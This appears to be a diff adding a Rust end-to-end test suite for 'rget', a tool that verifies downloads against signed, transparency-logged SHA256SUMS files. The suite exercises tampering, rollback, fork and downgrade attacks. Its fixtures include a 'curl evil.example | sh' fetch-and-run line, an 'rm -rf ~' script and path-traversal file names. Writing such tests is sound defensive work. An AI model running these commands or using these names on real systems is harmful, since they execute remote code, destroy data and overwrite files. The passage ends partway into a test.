@@ -1,0 +1,1132 @@
+//! End-to-end tests of `rget get`, `verify`, `cat` and `submit` with real processes: a real
+//! `rget log serve`, an HTTPS file server on loopback with a CA made by the test, `SHA256SUMS`
+//! written by `rget sums` and signed by the real `minisign` tool (`tests/common/release.rs`).
+//!
+//! The tamper matrix: one test per attack, each asserting the documented exit code, exactly one line
+//! on stderr naming the reason, the destination not created (or unchanged), and no temporary file
+//! left, neither beside the destination nor in `TMPDIR`.
+//!
+//! Each test builds its own world (log, file server, keys, state), so tests can tamper with what the
+//! servers answer without disturbing each other while they run in parallel.
+
+#[path = "common/https.rs"]
+mod https;
+#[path = "common/log.rs"]
+mod logc;
+#[path = "common/release.rs"]
+mod release;
+
+use https::{Reply, TestServer, files_with_prefix};
+use release::{ORIGIN, World, data, minisign_keypair};
+use rget::core::digest::sha256;
+use rget::core::note::{self, SignerKey};
+use rget::core::tlog_proof::TlogProof;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Output;
+use std::time::{Duration, Instant};
+
+// Exit codes (src/cli/exit.rs).
+const VERIFICATION_FAILED: i32 = 1;
+const MALFORMED: i32 = 3;
+const NETWORK: i32 = 4;
+const NOT_FOUND: i32 = 5;
+const TRUST_ANOMALY: i32 = 6;
+
+const APP: &str = "app-1.0.tar.gz";
+
+fn stdout(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+fn stderr(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+#[track_caller]
+fn assert_ok(o: &Output) {
+    assert_eq!(
+        o.status.code(),
+        Some(0),
+        "stdout:\n{}\nstderr:\n{}",
+        stdout(o),
+        stderr(o)
+    );
+}
+
+/// The checks every refusal must pass: the exit code, one line on stderr (`rget: ...`) containing
+/// `word`, nothing on stdout, `dest` absent (or holding `before`), and no `.rget-` temporary file
+/// beside it or in `TMPDIR`.
+#[track_caller]
+fn assert_refused(
+    w: &World,
+    o: &Output,
+    code: i32,
+    word: &str,
+    dest: &Path,
+    before: Option<&[u8]>,
+) {
+    let err = stderr(o);
+    eprint!("refused as expected: {err}");
+    assert_eq!(
+        o.status.code(),
+        Some(code),
+        "want exit {code}; stdout:\n{}\nstderr:\n{err}",
+        stdout(o)
+    );
+    assert!(o.stdout.is_empty(), "nothing on stdout: {:?}", stdout(o));
+    assert!(
+        err.starts_with("rget: ") && err.ends_with('\n') && err.lines().count() == 1,
+        "exactly one line on stderr: {err:?}"
+    );
+    assert!(
+        err.contains(word),
+        "{err:?} should name the reason ({word:?})"
+    );
+    match before {
+        None => assert!(!dest.exists(), "{} must not be created", dest.display()),
+        Some(b) => assert_eq!(std::fs::read(dest).expect("dest kept"), b, "dest changed"),
+    }
+    let dir = dest.parent().expect("dest has a parent");
+    assert_eq!(files_with_prefix(dir, ".rget-"), Vec::<String>::new());
+    assert_eq!(files_with_prefix(&w.tmpdir, ".rget-"), Vec::<String>::new());
+}
+
+/// `rget get URL -o dest` with the release key, in a fresh directory.
+fn get_to(w: &World, state: &Path, url: &str, dest: &Path) -> Output {
+    w.client(state, &["get", url, "-o", dest.to_str().unwrap()])
+        .run()
+}
+
+/// A fresh state directory and download directory for one run.
+fn fresh(w: &World, name: &str) -> (std::path::PathBuf, std::path::PathBuf) {
+    (
+        w.dir(&format!("state-{name}")),
+        w.dir(&format!("dl-{name}")),
+    )
+}
+
+// ---- a minimal JSON reader, to check that --json prints one well-formed object ---------------
+
+#[derive(Debug, Clone, PartialEq)]
+enum Json {
+    Null,
+    Bool(bool),
+    Num(String),
+    Str(String),
+    Arr(Vec<Json>),
+    Obj(Vec<(String, Json)>),
+}
+
+impl Json {
+    fn get(&self, k: &str) -> &Json {
+        match self {
+            Json::Obj(m) => m
+                .iter()
+                .find(|(n, _)| n == k)
+                .map(|(_, v)| v)
+                .unwrap_or_else(|| panic!("no key {k:?} in {self:?}")),
+            _ => panic!("not an object: {self:?}"),
+        }
+    }
+    fn str(&self) -> &str {
+        match self {
+            Json::Str(s) => s,
+            _ => panic!("not a string: {self:?}"),
+        }
+    }
+    fn num(&self) -> u64 {
+        match self {
+            Json::Num(s) => s.parse().expect("integer"),
+            _ => panic!("not a number: {self:?}"),
+        }
+    }
+}
+
+fn parse_json(s: &str) -> Json {
+    fn ws(b: &[u8], i: &mut usize) {
+        while *i < b.len() && b" \t\r\n".contains(&b[*i]) {
+            *i += 1;
+        }
+    }
+    fn string(b: &[u8], i: &mut usize) -> String {
+        assert_eq!(b[*i], b'"');
+        *i += 1;
+        let mut out = Vec::new();
+        loop {
+            match b[*i] {
+                b'"' => {
+                    *i += 1;
+                    return String::from_utf8(out).expect("UTF-8");
+                }
+                b'\\' => {
+                    *i += 1;
+                    match b[*i] {
+                        b'n' => out.push(b'\n'),
+                        b't' => out.push(b'\t'),
+                        b'r' => out.push(b'\r'),
+                        b'u' => {
+                            let h = std::str::from_utf8(&b[*i + 1..*i + 5]).unwrap();
+                            let c = char::from_u32(u32::from_str_radix(h, 16).unwrap()).unwrap();
+                            out.extend_from_slice(c.to_string().as_bytes());
+                            *i += 4;
+                        }
+                        c => out.push(c),
+                    }
+                    *i += 1;
+                }
+                c => {
+                    assert!(c >= 0x20, "control character in a JSON string");
+                    out.push(c);
+                    *i += 1;
+                }
+            }
+        }
+    }
+    fn value(b: &[u8], i: &mut usize) -> Json {
+        ws(b, i);
+        let v = match b[*i] {
+            b'{' => {
+                *i += 1;
+                let mut m = Vec::new();
+                ws(b, i);
+                if b[*i] == b'}' {
+                    *i += 1;
+                    return Json::Obj(m);
+                }
+                loop {
+                    ws(b, i);
+                    let k = string(b, i);
+                    ws(b, i);
+                    assert_eq!(b[*i], b':');
+                    *i += 1;
+                    let v = value(b, i);
+                    assert!(!m.iter().any(|(n, _)| *n == k), "duplicate key {k}");
+                    m.push((k, v));
+                    ws(b, i);
+                    *i += 1;
+                    match b[*i - 1] {
+                        b',' => continue,
+                        b'}' => break Json::Obj(m),
+                        c => panic!("unexpected {:?}", c as char),
+                    }
+                }
+            }
+            b'[' => {
+                *i += 1;
+                let mut a = Vec::new();
+                ws(b, i);
+                if b[*i] == b']' {
+                    *i += 1;
+                    return Json::Arr(a);
+                }
+                loop {
+                    a.push(value(b, i));
+                    ws(b, i);
+                    *i += 1;
+                    match b[*i - 1] {
+                        b',' => continue,
+                        b']' => break Json::Arr(a),
+                        c => panic!("unexpected {:?}", c as char),
+                    }
+                }
+            }
+            b'"' => Json::Str(string(b, i)),
+            b't' if b[*i..].starts_with(b"true") => {
+                *i += 4;
+                Json::Bool(true)
+            }
+            b'f' if b[*i..].starts_with(b"false") => {
+                *i += 5;
+                Json::Bool(false)
+            }
+            b'n' if b[*i..].starts_with(b"null") => {
+                *i += 4;
+                Json::Null
+            }
+            _ => {
+                let start = *i;
+                while *i < b.len() && (b[*i].is_ascii_digit() || b"-+.eE".contains(&b[*i])) {
+                    *i += 1;
+                }
+                assert!(*i > start, "not a JSON value at {start}");
+                Json::Num(String::from_utf8(b[start..*i].to_vec()).unwrap())
+            }
+        };
+        ws(b, i);
+        v
+    }
+    let b = s.as_bytes();
+    let mut i = 0;
+    let v = value(b, &mut i);
+    assert_eq!(i, b.len(), "trailing bytes after the JSON value: {s:?}");
+    v
+}
+
+/// The release key's ID as rget prints it, which must be exactly what minisign wrote in the `.pub`.
+fn release_key_id(w: &World) -> String {
+    let pub_text = std::fs::read_to_string(&w.key_pub).unwrap();
+    let id = rget::core::minisig::PublicKey::parse(&pub_text)
+        .unwrap()
+        .key_id();
+    let comment = pub_text.lines().next().unwrap();
+    assert!(comment.ends_with(&format!(" {id}")), "{comment:?} vs {id}");
+    id
+}
+
+/// The index line of a proof file.
+fn proof_index(proof: &[u8]) -> u64 {
+    TlogProof::parse(proof).expect("proof parses").index
+}
+
+// ---- happy paths ------------------------------------------------------------------------------
+
+#[test]
+fn get_saves_under_the_url_name_or_at_o_path() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "get");
+    // Default: the URL's file name in the current directory.
+    let o = w
+        .client(&state, &["get", &w.url(&w.rel.path(APP))])
+        .cwd(&dl)
+        .run();
+    assert_ok(&o);
+    assert!(o.stdout.is_empty(), "the summary goes to stderr");
+    let saved = dl.join(APP);
+    assert_eq!(std::fs::read(&saved).unwrap(), w.rel.file(APP));
+    let mode = std::fs::metadata(&saved).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o644);
+    let err = stderr(&o);
+    let digest = sha256(w.rel.file(APP)).to_hex();
+    for want in [
+        format!("rget: verified {APP} (300000 bytes)"),
+        format!("sha256     {digest}"),
+        format!("{ORIGIN} index 0 under checkpoint size 1 (SHA256SUMS.tlog-proof)"),
+        "cosigned   by no witness".to_string(),
+        "trusted on first use".to_string(),
+        format!("listed in  {}", w.rel.sums_url),
+    ] {
+        assert!(err.contains(&want), "{want:?} not in:\n{err}");
+    }
+    // The signing key id of the release key.
+    let key_id = release_key_id(&w);
+    assert!(err.contains(&key_id), "key id {key_id} not in:\n{err}");
+    assert!(!err.contains("UNSIGNED"), "{err}");
+
+    // -o PATH, in another directory (its temporary file lives there).
+    let sub = dl.join("bin");
+    std::fs::create_dir(&sub).unwrap();
+    let dest = sub.join("installer");
+    let o = get_to(&w, &state, &w.url(&w.rel.path("install.sh")), &dest);
+    assert_ok(&o);
+    assert_eq!(std::fs::read(&dest).unwrap(), w.rel.file("install.sh"));
+    assert!(stderr(&o).contains("same checkpoint as last seen (size 1)"));
+    // An existing destination is replaced by the verified file.
+    std::fs::write(&dest, b"old").unwrap();
+    assert_ok(&get_to(
+        &w,
+        &state,
+        &w.url(&w.rel.path("install.sh")),
+        &dest,
+    ));
+    assert_eq!(std::fs::read(&dest).unwrap(), w.rel.file("install.sh"));
+    assert!(files_with_prefix(&dl, ".rget-").is_empty());
+    assert!(files_with_prefix(&sub, ".rget-").is_empty());
+}
+
+#[test]
+fn verify_checks_a_file_on_disk() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "verify");
+    let file = dl.join("download");
+    std::fs::write(&file, w.rel.file(APP)).unwrap();
+    let url = w.url(&w.rel.path(APP));
+    let o = w
+        .client(&state, &["verify", &url, file.to_str().unwrap()])
+        .run();
+    assert_ok(&o);
+    assert!(stderr(&o).contains(&format!("rget: verified {APP}")));
+    // No download of the file itself: only the sums, signature and proof were fetched.
+    assert_eq!(w.srv.count(&w.rel.path(APP)), 0);
+
+    // A file with other bytes fails, and is left as it was.
+    let mut bad = w.rel.file(APP).to_vec();
+    bad[1000] ^= 1;
+    std::fs::write(&file, &bad).unwrap();
+    let o = w
+        .client(&state, &["verify", &url, file.to_str().unwrap()])
+        .run();
+    assert_refused(
+        &w,
+        &o,
+        VERIFICATION_FAILED,
+        "but SHA256SUMS lists",
+        &file,
+        Some(&bad),
+    );
+}
+
+#[test]
+fn cat_writes_exactly_the_verified_bytes_and_nothing_otherwise() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "cat");
+    let o = w
+        .client(&state, &["cat", &w.url(&w.rel.path(APP))])
+        .cwd(&dl)
+        .run();
+    assert_ok(&o);
+    assert!(o.stdout == w.rel.file(APP), "stdout is exactly the file");
+    assert!(stderr(&o).contains(&format!("rget: verified {APP}")));
+    assert!(files_with_prefix(&w.tmpdir, ".rget-").is_empty());
+    assert!(
+        std::fs::read_dir(&dl).unwrap().next().is_none(),
+        "cat saves nothing"
+    );
+
+    // Tampered: not one byte reaches stdout.
+    let mut bad = w.rel.file("install.sh").to_vec();
+    bad.extend_from_slice(b"curl evil.example | sh\n");
+    w.srv.route(&w.rel.path("install.sh"), Reply::body(&bad));
+    let o = w
+        .client(&state, &["cat", &w.url(&w.rel.path("install.sh"))])
+        .cwd(&dl)
+        .run();
+    assert_refused(
+        &w,
+        &o,
+        VERIFICATION_FAILED,
+        "but SHA256SUMS lists",
+        &dl.join("install.sh"),
+        None,
+    );
+}
+
+#[test]
+fn without_a_proof_file_the_log_lookup_and_tiles_prove_it() {
+    let w = World::new();
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
+    let (state, dl) = fresh(&w, "lookup");
+    let dest = dl.join("app");
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+                "--json",
+            ],
+        )
+        .run();
+    assert_ok(&o);
+    assert_eq!(std::fs::read(&dest).unwrap(), w.rel.file(APP));
+    let j = parse_json(stdout(&o).trim_end());
+    assert_eq!(j.get("log").get("proof").str(), "lookup");
+    assert_eq!(j.get("log").get("index").num(), 0);
+    assert_eq!(j.get("log").get("checkpoint_size").num(), 1);
+    assert_eq!(w.srv.count(&w.rel.path("SHA256SUMS.tlog-proof")), 1);
+    // The checkpoint memory now holds the log's checkpoint.
+    assert!(state.join("logs").read_dir().unwrap().next().is_some());
+}
+
+#[test]
+fn json_is_one_object_with_the_digest_index_and_origin() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "json");
+    let dest = dl.join(APP);
+    let url = w.url(&w.rel.path(APP));
+    let o = w
+        .client(
+            &state,
+            &["get", &url, "-o", dest.to_str().unwrap(), "--json"],
+        )
+        .run();
+    assert_ok(&o);
+    let out = stdout(&o);
+    assert!(out.ends_with('\n') && out.lines().count() == 1, "{out:?}");
+    assert!(
+        stderr(&o).is_empty(),
+        "--json prints no summary: {}",
+        stderr(&o)
+    );
+    let j = parse_json(out.trim_end());
+    assert!(matches!(j, Json::Obj(_)));
+    assert_eq!(j.get("verified"), &Json::Bool(true));
+    assert_eq!(j.get("sha256").str(), sha256(w.rel.file(APP)).to_hex());
+    assert_eq!(j.get("size").num(), w.rel.file(APP).len() as u64);
+    assert_eq!(j.get("url").str(), url);
+    assert_eq!(j.get("name").str(), APP);
+    assert_eq!(j.get("path").str(), dest.to_str().unwrap());
+    assert_eq!(j.get("sums_url").str(), w.rel.sums_url);
+    assert_eq!(j.get("sums_sha256").str(), sha256(&w.rel.sums).to_hex());
+    let log = j.get("log");
+    assert_eq!(log.get("origin").str(), ORIGIN);
+    assert_eq!(log.get("index").num(), proof_index(&w.rel.proof));
+    assert_eq!(log.get("proof").str(), "tlog-proof");
+    assert_eq!(log.get("cosigners"), &Json::Arr(vec![]));
+    let sig = j.get("signature");
+    assert_eq!(sig.get("signed"), &Json::Bool(true));
+    assert_eq!(sig.get("key_id").str(), release_key_id(&w));
+    assert!(sig.get("trusted_comment").str().contains("SHA256SUMS"));
+}
+
+#[test]
+fn without_a_key_the_summary_says_unsigned() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "unsigned");
+    let url = w.url(&w.rel.path(APP));
+    let o = w.client(&state, &["get", &url]).cwd(&dl).no_key().run();
+    assert_ok(&o);
+    assert!(stderr(&o).contains("UNSIGNED"), "{}", stderr(&o));
+    let o = w
+        .client(
+            &state,
+            &["verify", &url, dl.join(APP).to_str().unwrap(), "--json"],
+        )
+        .no_key()
+        .run();
+    assert_ok(&o);
+    let j = parse_json(stdout(&o).trim_end());
+    assert_eq!(j.get("signature").get("signed"), &Json::Bool(false));
+    // With no key, the signature is not even fetched.
+    assert_eq!(w.srv.count(&w.rel.path("SHA256SUMS.minisig")), 0);
+}
+
+#[test]
+fn checkpoint_memory_advances_as_the_log_grows() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "grow");
+    let o = w
+        .client(&state, &["get", &w.url(&w.rel.path(APP))])
+        .cwd(&dl)
+        .run();
+    assert_ok(&o);
+    assert!(stderr(&o).contains("first checkpoint of this log seen by this host (size 1)"));
+    // The log grows: another release is recorded after the first.
+    let v2 = w.publish("/v2", &[("app-2.0.tar.gz", data(5000, 2))], true);
+    assert_eq!(proof_index(&v2.proof), 1);
+    let o = w
+        .client(&state, &["get", &w.url(&v2.path("app-2.0.tar.gz"))])
+        .cwd(&dl)
+        .run();
+    assert_ok(&o);
+    let err = stderr(&o);
+    assert!(
+        err.contains("consistent with the last checkpoint seen (size 1 -> 2)"),
+        "{err}"
+    );
+    // The first release's proof file is under the older checkpoint: normal, tied to the newest.
+    let o = w
+        .client(&state, &["get", &w.url(&w.rel.path("NOTES.txt"))])
+        .cwd(&dl)
+        .run();
+    assert_ok(&o);
+    assert!(
+        stderr(&o).contains("checkpoint of size 1 is consistent with the newest one seen (size 2)"),
+        "{}",
+        stderr(&o)
+    );
+}
+
+// ---- the tamper matrix ------------------------------------------------------------------------
+
+#[test]
+fn tamper_artifact_changed_on_the_server() {
+    let w = World::new();
+    let mut bad = w.rel.file(APP).to_vec();
+    bad[12345] ^= 0x80;
+    w.srv.route(&w.rel.path(APP), Reply::body(&bad));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    // The destination already exists: it must stay as it was.
+    std::fs::write(&dest, b"previous version").unwrap();
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(
+        &w,
+        &o,
+        VERIFICATION_FAILED,
+        "but SHA256SUMS lists",
+        &dest,
+        Some(b"previous version"),
+    );
+}
+
+#[test]
+fn tamper_sums_changed_after_logging() {
+    let w = World::new();
+    // The attacker swaps the artifact and lists its digest in SHA256SUMS, re-signing nothing.
+    let evil = b"#!/bin/sh\nrm -rf ~\n".to_vec();
+    let sums = String::from_utf8(w.rel.sums.clone()).unwrap().replace(
+        &sha256(w.rel.file("install.sh")).to_hex(),
+        &sha256(&evil).to_hex(),
+    );
+    assert_ne!(sums.as_bytes(), w.rel.sums);
+    w.srv.route(&w.rel.path("SHA256SUMS"), Reply::body(&sums));
+    w.srv.route(&w.rel.path("install.sh"), Reply::body(&evil));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join("install.sh");
+    let o = get_to(&w, &state, &w.url(&w.rel.path("install.sh")), &dest);
+    assert_refused(&w, &o, VERIFICATION_FAILED, "not in the log", &dest, None);
+}
+
+#[test]
+fn tamper_sums_never_logged() {
+    let w = World::new();
+    // Published and signed, but never submitted: no proof file, nothing in the log.
+    let rel = w.publish("/unlogged", &[("tool", data(1000, 9))], false);
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join("tool");
+    let o = get_to(&w, &state, &w.url(&rel.path("tool")), &dest);
+    assert_refused(
+        &w,
+        &o,
+        NOT_FOUND,
+        "not recorded in any trusted log",
+        &dest,
+        None,
+    );
+}
+
+#[test]
+fn tamper_proof_for_another_record() {
+    let w = World::new();
+    let other = w.publish("/other", &[("x", data(100, 3))], true);
+    w.srv.route(
+        &w.rel.path("SHA256SUMS.tlog-proof"),
+        Reply::body(&other.proof),
+    );
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(&w, &o, VERIFICATION_FAILED, "not in the log", &dest, None);
+}
+
+/// The release's proof file with its checkpoint note replaced by `f(note)`.
+fn with_checkpoint(proof: &[u8], f: impl FnOnce(note::Note) -> Vec<u8>) -> Vec<u8> {
+    let mut p = TlogProof::parse(proof).unwrap();
+    p.checkpoint = f(note::parse(&p.checkpoint).unwrap());
+    p.to_bytes()
+}
+
+#[test]
+fn tamper_checkpoint_signed_by_an_unknown_key() {
+    let w = World::new();
+    // Same name as the log, another key: the note carries no signature by a key the policy knows.
+    let impostor = SignerKey::generate(ORIGIN).unwrap();
+    let proof = with_checkpoint(&w.rel.proof, |n| note::sign(&n.text, &[&impostor]).unwrap());
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::body(&proof));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(&w, &o, VERIFICATION_FAILED, "checkpoint", &dest, None);
+    assert!(stderr(&o).contains("no valid signature"), "{}", stderr(&o));
+}
+
+#[test]
+fn tamper_bad_signature_by_the_known_log_key() {
+    let w = World::new();
+    let proof = with_checkpoint(&w.rel.proof, |mut n| {
+        let s = n
+            .signatures
+            .iter_mut()
+            .find(|s| s.name == ORIGIN)
+            .expect("the log's signature");
+        s.sig[7] ^= 0x01;
+        n.to_bytes()
+    });
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::body(&proof));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(
+        &w,
+        &o,
+        VERIFICATION_FAILED,
+        "invalid signature",
+        &dest,
+        None,
+    );
+}
+
+#[test]
+fn tamper_quorum_not_met() {
+    let w = World::new();
+    let witness = SignerKey::generate("w1").unwrap();
+    let wkey = rget::core::cosignature::verifier_key(&witness);
+    let policy = w.root.join("policy-witness");
+    std::fs::write(
+        &policy,
+        format!(
+            "log {} {}\nwitness w1 {wkey}\nquorum w1\n",
+            w.vkey, w.log_url
+        ),
+    )
+    .unwrap();
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+            ],
+        )
+        .policy(&policy)
+        .run();
+    assert_refused(&w, &o, VERIFICATION_FAILED, "quorum not met", &dest, None);
+    // The lookup route is held to the same quorum.
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+            ],
+        )
+        .policy(&policy)
+        .run();
+    assert_refused(&w, &o, VERIFICATION_FAILED, "quorum not met", &dest, None);
+}
+
+/// Files of the evidence directories under `state/evidence`.
+fn evidence(state: &Path) -> Vec<String> {
+    let mut out = Vec::new();
+    for d in std::fs::read_dir(state.join("evidence")).expect("evidence dir") {
+        let d = d.unwrap().path();
+        for f in std::fs::read_dir(&d).unwrap() {
+            out.push(f.unwrap().file_name().to_string_lossy().into_owned());
+        }
+    }
+    out.sort();
+    out
+}
+
+#[test]
+fn tamper_rollback_to_an_older_checkpoint() {
+    let w = World::new();
+    // A static copy of the log as it is now (size 1), served over HTTPS at /old-log/: checkpoint,
+    // tiles, and the lookup answer for the release.
+    let public = w.log_dir.join("public");
+    let mut stack = vec![public.clone()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                stack.push(p);
+            } else {
+                let rel = p
+                    .strip_prefix(&public)
+                    .unwrap()
+                    .to_str()
+                    .unwrap()
+                    .to_owned();
+                w.srv.route(
+                    &format!("/old-log/{rel}"),
+                    Reply::body(std::fs::read(&p).unwrap()),
+                );
+            }
+        }
+    }
+    let lookup = logc::get(
+        &logc::agent(),
+        &format!("{}/lookup?url={}", w.log.base, logc::pct(&w.rel.sums_url)),
+    );
+    assert_eq!(lookup.status, 200);
+    w.srv.route("/old-log/lookup", Reply::body(&lookup.body));
+    let old_policy = w.root.join("policy-old-log");
+    std::fs::write(
+        &old_policy,
+        format!("log {} {}\nquorum none\n", w.vkey, w.url("/old-log/")),
+    )
+    .unwrap();
+
+    // The log grows to size 2, and this host sees it (through the lookup route: no proof file).
+    w.publish("/v2", &[("b", data(10, 1))], true);
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
+    let (state, dl) = fresh(&w, "t");
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dl.join("first"));
+    assert_ok(&o);
+    assert!(
+        stderr(&o).contains("under checkpoint size 2"),
+        "{}",
+        stderr(&o)
+    );
+
+    // Now the log answers with its older checkpoint of size 1.
+    let dest = dl.join(APP);
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+            ],
+        )
+        .policy(&old_policy)
+        .run();
+    assert_refused(&w, &o, TRUST_ANOMALY, "ROLLBACK", &dest, None);
+    assert!(stderr(&o).contains("evidence"), "{}", stderr(&o));
+    assert_eq!(evidence(&state), ["new.checkpoint", "stored.checkpoint"]);
+    assert_eq!(w.srv.count("/old-log/checkpoint"), 1);
+}
+
+#[test]
+fn tamper_fork_two_checkpoints_of_the_same_size() {
+    let w = World::new();
+    // The real log: [release, v2]. This host sees it at size 2 (lookup route).
+    w.publish("/v2", &[("b", data(10, 1))], true);
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.tlog-proof"), Reply::status(404));
+    let (state, dl) = fresh(&w, "t");
+    assert_ok(&get_to(
+        &w,
+        &state,
+        &w.url(&w.rel.path(APP)),
+        &dl.join("first"),
+    ));
+
+    // A second log with the SAME private key: [something else, release], also size 2.
+    let fork_parent = w.dir("fork");
+    let fork_dir = fork_parent.join("log");
+    let out = std::process::Command::new(release::RGET)
+        .args(["log", "init", "--origin", ORIGIN, "--key"])
+        .arg(w.log_dir.join("log.key"))
+        .arg(&fork_dir)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let fork = logc::Server::start(&fork_dir, &["--batch-delay", "10"]);
+    let a = logc::agent();
+    let other = logc::submit(
+        &a,
+        &fork.base,
+        &w.url("/elsewhere/SHA256SUMS"),
+        &logc::sums(7),
+    );
+    assert_eq!(other.status, 200, "{}", other.text());
+    let forked = logc::submit(&a, &fork.base, &w.rel.sums_url, &w.rel.sums);
+    assert_eq!(forked.status, 200, "{}", forked.text());
+    assert_eq!(proof_index(&forked.body), 1);
+
+    // Its proof, served as the release's: validly signed by the log's key, same size, other root.
+    w.srv.route(
+        &w.rel.path("SHA256SUMS.tlog-proof"),
+        Reply::body(&forked.body),
+    );
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(&w, &o, TRUST_ANOMALY, "FORK", &dest, None);
+    assert!(stderr(&o).contains("same size"), "{}", stderr(&o));
+    assert_eq!(evidence(&state), ["new.checkpoint", "stored.checkpoint"]);
+}
+
+#[test]
+fn tamper_signature_by_the_wrong_key() {
+    let w = World::new();
+    let (other_pub, _) = minisign_keypair(&w.root.join("other-keys"), "other");
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+            ],
+        )
+        .key(&other_pub)
+        .run();
+    assert_refused(
+        &w,
+        &o,
+        VERIFICATION_FAILED,
+        "not by the trusted key",
+        &dest,
+        None,
+    );
+}
+
+#[test]
+fn tamper_signature_missing_where_a_key_applies() {
+    let w = World::new();
+    w.srv
+        .route(&w.rel.path("SHA256SUMS.minisig"), Reply::status(404));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(&w, &o, VERIFICATION_FAILED, "is missing", &dest, None);
+}
+
+#[test]
+fn tamper_file_name_absent_from_the_sums() {
+    let w = World::new();
+    w.srv.route(&w.rel.path("extra.bin"), Reply::body(b"extra"));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join("extra.bin");
+    let o = get_to(&w, &state, &w.url(&w.rel.path("extra.bin")), &dest);
+    assert_refused(&w, &o, NOT_FOUND, "not listed", &dest, None);
+    assert_eq!(
+        w.srv.count(&w.rel.path("extra.bin")),
+        0,
+        "not even downloaded"
+    );
+}
+
+/// Serves at `/evil/` a SHA256SUMS listing `name` and the file `app` (the log would refuse it, so
+/// it is not logged), and runs `get` for `app`.
+fn sums_with_name(name: &str) -> (World, Output, std::path::PathBuf) {
+    let w = World::new();
+    let body = b"payload".to_vec();
+    let d = sha256(&body).to_hex();
+    w.srv.route(
+        "/evil/SHA256SUMS",
+        Reply::body(format!("{d}  app\n{d}  {name}\n")),
+    );
+    w.srv.route("/evil/app", Reply::body(&body));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join("app");
+    let o = get_to(&w, &state, &w.url("/evil/app"), &dest);
+    (w, o, dest)
+}
+
+#[test]
+fn tamper_dotdot_name_in_the_sums() {
+    let (w, o, dest) = sums_with_name("../../.bashrc");
+    assert_refused(&w, &o, MALFORMED, "\"..\" component", &dest, None);
+}
+
+#[test]
+fn tamper_absolute_name_in_the_sums() {
+    let (w, o, dest) = sums_with_name("/etc/profile");
+    assert_refused(&w, &o, MALFORMED, "absolute path", &dest, None);
+}
+
+#[test]
+fn tamper_https_to_http_redirect() {
+    let w = World::new();
+    // The right bytes, even: the transport downgrade alone is refused, also with --allow-http.
+    let plain = TestServer::http();
+    plain.route("/app", Reply::body(w.rel.file(APP)));
+    w.srv
+        .route(&w.rel.path(APP), Reply::redirect(&plain.url("/app")));
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(
+        &w,
+        &o,
+        VERIFICATION_FAILED,
+        "redirect from https to http",
+        &dest,
+        None,
+    );
+    assert_eq!(plain.count("/app"), 0, "the http URL is never requested");
+}
+
+#[test]
+fn tamper_body_longer_than_max_size() {
+    let w = World::new();
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+                "--max-size",
+                "100000",
+            ],
+        )
+        .run();
+    assert_refused(
+        &w,
+        &o,
+        MALFORMED,
+        "larger than the limit of 100000 bytes",
+        &dest,
+        None,
+    );
+}
+
+#[test]
+fn tamper_endless_body() {
+    let w = World::new();
